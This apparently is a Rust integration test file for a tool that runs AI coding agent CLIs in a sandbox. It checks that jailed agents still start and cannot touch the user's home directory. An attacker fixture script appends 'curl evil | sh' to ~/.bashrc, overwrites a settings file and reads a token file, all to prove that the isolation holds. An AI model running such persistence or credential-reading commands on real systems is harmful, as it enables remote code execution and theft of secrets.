//! Issue 28: the real agent CLIs still work jailed. Each built-in preset names what its
//! CLI keeps in `$HOME`; a jailed agent gets a private, writable home holding a copy
//! of it, so `grove spawn --jail --agent NAME` reaches the same first screen as
//! unjailed, with the CLIs from npm (claude, codex, gemini) and PyPI (aider) that CI
//! installs. Tried as an attacker too: what a jailed agent writes to its `$HOME` never
//! reaches the user's files, while unjailed the same write does.
#![cfg(target_os = "linux")]

mod support;

use std::fs;
use std::time::{Duration, Instant};
use support::*;

/// A CLI's first screen can take a while on a loaded machine (node starting, gemini
/// loading its bundle, aider importing litellm).
const FIRST_SCREEN: Duration = Duration::from_secs(120);

fn can_jail() -> bool {
    have_landlock() && writable_cgroup2().is_some()
}

/// Spawns `--agent name` in a terminal (jailed or not) and waits until its screen
/// shows `marker`; then kills it.
fn reaches_first_screen(g: &Grove, name: &str, jailed: bool, extra: &[&str], marker: &str) {
    let mut args = vec![
        "spawn",
        if jailed { "--jail" } else { "--no-jail" },
        "--agent",
        name,
    ];
    args.extend_from_slice(extra);
    let id = g.ok(&args).trim().to_string();
    let deadline = Instant::now() + FIRST_SCREEN;
    loop {
        let screen = g.run(&["screen", &id]).stdout;
        // Claude Code prints its notice and ends: once it has, its log holds the screen.
        if screen.contains(marker) || g.run(&["logs", &id]).stdout.contains(marker) {
            break;
        }
        if Instant::now() >= deadline || g.status(&id) != "running" {
            let log = g.run(&["logs", &id]);
            panic!(
                "{name} ({}) never showed {marker:?}; status {}, screen:\n{screen}\nlog:\n{}{}",
                if jailed { "jailed" } else { "unjailed" },
                g.status(&id),
                log.stdout,
                log.stderr
            );
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    g.run(&["kill", &id]);
    g.wait(&id);
}

fn first_screen(name: &str, extra: &[&str], marker: &str) {
    if !have_program(name, &["--version"]) || !can_jail() {
        return;
    }
    let g = Grove::new();
    reaches_first_screen(&g, name, false, extra, marker);
    reaches_first_screen(&g, name, true, extra, marker);
}

#[test]
fn claude_reaches_its_first_screen_jailed() {
    // Without network or an API key, Claude Code's first screen is this notice.
    first_screen("claude", &[], "anthropic.com/supported-countries");
}

#[test]
fn codex_reaches_its_first_screen_jailed() {
    first_screen("codex", &[], "Welcome to Codex");
}

#[test]
fn gemini_reaches_its_first_screen_jailed() {
    first_screen("gemini", &[], "Do you trust the files in this folder");
}

#[test]
fn aider_reaches_its_first_screen_jailed() {
    first_screen(
        "aider",
        &[
            "--env",
            "AIDER_CHECK_UPDATE=false",
            "--env",
            "AIDER_ANALYTICS=false",
        ],
        "Add .aider* to .gitignore",
    );
}

/// Reads the copy of the user's CLI settings, then tries to write back: the settings,
/// a shell hook, a new file.
const WRITE_HOME: &str = r#"
    echo "settings: $(cat "$HOME/.claude/settings.json")"
    echo pwned > "$HOME/.claude/settings.json" && echo "wrote: settings"
    echo 'curl evil | sh' >> "$HOME/.bashrc" && echo "wrote: bashrc"
    echo x > "$HOME/planted" && echo "wrote: planted"
    exit 0
"#;

fn attacker(g: &Grove) {
    fs::create_dir_all(g.dir.path().join(".claude")).expect("mkdir");
    fs::write(g.dir.path().join(".claude/settings.json"), "user's").expect("write");
    fs::write(g.dir.path().join(".bashrc"), "# user's\n").expect("write");
    let script = g.write_file("write-home.sh", WRITE_HOME);
    g.write_config(format!(
        "[agents.writer]\ncommand = [\"sh\", \"{}\"]\njail_home = [\".claude\"]\n",
        script.display()
    ));
}

#[test]
fn a_jailed_agent_writes_its_private_home_never_the_users() {
    if !can_jail() {
        return;
    }
    let g = Grove::new();
    attacker(&g);
    let home = g.dir.path();
    let id = g
        .ok(&["spawn", "--jail", "--agent", "writer"])
        .trim()
        .to_string();
    let log = g.succeeded_log(&id);
    assert!(log.contains("settings: user's"), "the copy is there: {log}");
    assert!(
        log.contains("wrote: settings"),
        "its own home is writable: {log}"
    );
    assert!(log.contains("wrote: planted"), "{log}");
    assert!(
        !log.contains("wrote: bashrc"),
        "shell settings stay read-only: {log}"
    );
    assert_eq!(
        fs::read_to_string(home.join(".claude/settings.json")).expect("read"),
        "user's"
    );
    assert_eq!(
        fs::read_to_string(home.join(".bashrc")).expect("read"),
        "# user's\n"
    );
    assert!(!home.join("planted").exists());
    let record = g.record(&id);
    assert_eq!(record["jail_home"], serde_json::json!([".claude"]));
    let shown = g.ok(&["show", &id]);
    assert!(
        shown.contains("private, with a copy of ~/.claude"),
        "{shown}"
    );

    // Unjailed, the same agent writes the user's files: the attack is real.
    let id = g
        .ok(&["spawn", "--no-jail", "--agent", "writer"])
        .trim()
        .to_string();
    let log = g.succeeded_log(&id);
    assert!(log.contains("wrote: bashrc"), "{log}");
    assert_eq!(
        fs::read_to_string(home.join(".claude/settings.json")).expect("read"),
        "pwned\n"
    );
    assert!(home.join("planted").exists());
}

#[test]
fn a_jail_home_outside_home_is_refused_and_nothing_is_made() {
    for bad in ["../x", "/etc", ".ssh"] {
        let g = Grove::new();
        g.write_config(format!(
            "[agents.bad]\ncommand = [\"true\"]\njail_home = [\"{bad}\"]\n"
        ));
        g.fails(
            &["spawn", "--no-jail", "--agent", "bad"],
            &[bad, "jail_home"],
        );
        assert!(g.all_agents().is_empty(), "{bad}: no agent");
    }
    // Past the client too: the daemon checks what a request names.
    let g = Grove::new();
    let mut c = client(&g);
    let refused = call(
        &mut c,
        "agent.spawn",
        serde_json::json!({
            "argv": ["true"], "repo": g.repo, "jail": false, "jail_home": ["/etc"],
        }),
    )
    .expect_err("refused");
    assert!(refused.message.contains("/etc"), "{}", refused.message);
    assert!(g.all_agents().is_empty());
    assert!(g.worktree_dirs().is_empty());
}

#[test]
fn a_repositorys_preset_gets_no_copy_of_home() {
    if !can_jail() {
        return;
    }
    let g = Grove::new();
    fs::create_dir_all(g.dir.path().join(".claude")).expect("mkdir");
    fs::write(g.dir.path().join(".claude/token"), "secret").expect("write");
    fs::write(
        g.repo.join(".grove.toml"),
        "[agents.lint]\ncommand = [\"sh\", \"-c\", \"cat ~/.claude/token || echo absent\"]\n\
         jail_home = [\".claude\"]\n",
    )
    .expect("write");
    let id = g
        .ok(&["spawn", "--jail", "--agent", "lint"])
        .trim()
        .to_string();
    let log = g.succeeded_log(&id);
    assert!(log.contains("absent") && !log.contains("secret"), "{log}");
    assert!(g.record(&id).get("jail_home").is_none());
}

/// A jailed agent that got `~/.claude` spawns children: one asking for the same, one
/// asking for `~/.codex`, which it never got.
const SPAWN_CHILDREN: &str = r#"
    child=$("$GROVE_BIN" spawn --agent claude --headless "hi") && echo "claude child: $child"
    "$GROVE_BIN" spawn --agent codex --headless "hi"; echo "codex exit=$?"
    exit 0
"#;

#[test]
fn a_jailed_agents_child_gets_no_more_of_home_than_the_agent() {
    if !have_program("claude", &["--version"])
        || !have_program("codex", &["--version"])
        || !can_jail()
    {
        return;
    }
    let g = Grove::new();
    let script = g.write_file("spawn-children.sh", SPAWN_CHILDREN);
    g.write_config(format!(
        "[agents.parent]\ncommand = [\"sh\", \"{}\"]\njail_home = [\".claude\", \".claude.json\"]\n\
         env = {{ GROVE_BIN = \"{BIN}\" }}\n",
        script.display()
    ));
    let id = g
        .ok(&["spawn", "--jail", "--agent", "parent"])
        .trim()
        .to_string();
    let log = g.succeeded_log(&id);
    assert!(log.contains("claude child: "), "{log}");
    assert!(
        log.contains("codex exit=") && !log.contains("codex exit=0"),
        "{log}"
    );
    assert!(
        log.contains("only what of $HOME it got itself") && log.contains("`.codex`"),
        "{log}"
    );
    let child = log
        .lines()
        .find_map(|l| l.strip_prefix("claude child: "))
        .expect("child id")
        .trim()
        .to_string();
    let record = g.record(&child);
    assert_eq!(record["jail"], true);
    assert_eq!(
        record["jail_home"],
        serde_json::json!([".claude", ".claude.json"])
    );
    g.wait(&child);
    assert_eq!(g.all_agents().len(), 2, "the codex child was never made");
}
